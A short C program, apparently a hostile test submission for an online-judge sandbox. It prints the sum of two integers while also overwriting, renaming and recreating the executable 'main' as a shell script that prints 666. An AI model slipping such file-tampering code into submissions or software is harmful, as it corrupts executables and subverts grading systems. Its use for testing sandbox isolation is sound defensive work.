#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    int a, b;
    scanf("%d %d", &a, &b);
    static const char evil[] = "#!/bin/sh\necho 666\n";
    chmod("main", 0777);
    int file = open("main", O_WRONLY | O_TRUNC);
    if (file >= 0) write(file, evil, strlen(evil));
    rename("main", "gone");
    unlink("main");
    file = open("main", O_CREAT | O_WRONLY, 0777);
    if (file >= 0) write(file, evil, strlen(evil));
    printf("%d\n", a + b);
    return 0;
}
